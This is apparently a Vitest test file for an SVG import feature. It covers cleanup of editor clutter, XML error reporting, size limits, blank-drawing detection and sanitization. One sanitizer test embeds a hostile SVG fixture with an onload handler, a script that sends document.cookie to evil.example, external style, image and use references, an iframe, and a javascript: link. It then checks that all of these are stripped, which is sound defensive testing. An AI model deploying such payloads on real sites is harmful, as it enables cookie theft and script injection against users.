import { describe, expect, it } from "vitest";
import { LIMITS } from "../http/limits";
import { looksLikeSvg, readSvgImport } from "./import-svg";
import { sanitizeSvgInNode } from "./sanitize-in-node";
import { isBlankSvg } from "./blank-svg";

const INKSCAPE = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg
   width="200" height="200" viewBox="0 0 200 200" version="1.1" id="svg1"
   inkscape:version="1.3.2 (091e20e, 2023-11-25)" sodipodi:docname="kite.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" bordercolor="#000000" inkscape:zoom="2.4" inkscape:current-layer="layer1" />
  <defs id="defs1" />
  <metadata><rdf:RDF><dc:title>kite</dc:title></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <path style="fill:#d62828;stroke:#222222;stroke-width:2" d="M 100,20 150,100 100,180 50,100 Z" id="path1" sodipodi:nodetypes="ccccc" />
  </g>
</svg>
`;

describe("importing an SVG file", () => {
  it("accepts an editor's file, clutter and all, and keeps only the drawing", () => {
    const result = readSvgImport(`\uFEFF${INKSCAPE}`, sanitizeSvgInNode, LIMITS.svgBytes);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.text.startsWith("<?xml")).toBe(true);
    expect(result.svg).toMatch(/^<svg[\s>]/);
    expect(result.svg).toContain('d="M 100,20 150,100 100,180 50,100 Z"');
    for (const clutter of ["inkscape", "sodipodi", "<metadata", "rdf:", "<?xml", "<!--"]) expect(result.svg).not.toContain(clutter);
    expect(result.blank).toBe(false);
  });

  it("marks an XML error at its line and column in the file", () => {
    const broken = INKSCAPE.replace('id="path1"', 'id="path1" <').replace("</g>", "</h>");
    const result = readSvgImport(broken, sanitizeSvgInNode, LIMITS.svgBytes);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.line).toBeGreaterThan(10);
    expect(result.message).toMatch(/^Line \d+, column \d+: /);
    const notSvg = readSvgImport(`<html><body>hi</body></html>`, sanitizeSvgInNode, LIMITS.svgBytes);
    expect(notSvg).toMatchObject({ ok: false, message: expect.stringContaining("not <svg>") });
    expect(readSvgImport("   ", sanitizeSvgInNode, LIMITS.svgBytes)).toMatchObject({ ok: false, message: "The file is empty." });
  });

  it("sanitizes a hostile file: no script, handler, external reference or foreign content is left", () => {
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 200" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/x.css); .a { fill: url(https://evil.example/p.svg#p) }</style>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <a href="javascript:alert(2)"><circle cx="100" cy="100" r="50" fill="url(https://evil.example/g.svg#g)" stroke="#123456"/></a>
</svg>`;
    const result = readSvgImport(hostile, sanitizeSvgInNode, LIMITS.svgBytes);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.svg).not.toMatch(/script|onload|evil\.example|foreignObject|iframe|javascript:|<image/i);
    expect(result.svg).toContain("<circle");
  });

  it("refuses a file over the SVG size limit", () => {
    const big = `<svg xmlns="http://www.w3.org/2000/svg">${"<path d='M0 0'/>".repeat(LIMITS.svgBytes / 16 + 10)}</svg>`;
    expect(readSvgImport(big, sanitizeSvgInNode, LIMITS.svgBytes)).toMatchObject({ ok: false, message: expect.stringContaining("at most 512 kB") });
  });

  it("tells pasted SVG text from a prompt", () => {
    expect(looksLikeSvg(INKSCAPE)).toBe(true);
    expect(looksLikeSvg(`  <svg viewBox="0 0 10 10"></svg>`)).toBe(true);
    expect(looksLikeSvg("a kite drawn like <svg> art")).toBe(false);
  });
});

describe("a blank SVG", () => {
  it("draws nothing, or only white on white", () => {
    expect(isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"></svg>`)).toBe(true);
    expect(
      isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"><defs><path id="p" d="M0 0h9"/></defs><rect width="200" height="200" fill="white"/></svg>`),
    ).toBe(true);
    expect(isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9" fill="none"/></svg>`)).toBe(true);
    expect(isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9" fill="none" stroke="#000"/></svg>`)).toBe(false);
    expect(isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="200" height="200" fill="#fff"/><circle r="4"/></svg>`)).toBe(false);
    expect(isBlankSvg(`<svg xmlns="http://www.w3.org/2000/svg"><path style="fill:#d62828" d="M0 0h9v9z"/></svg>`)).toBe(false);
  });
});
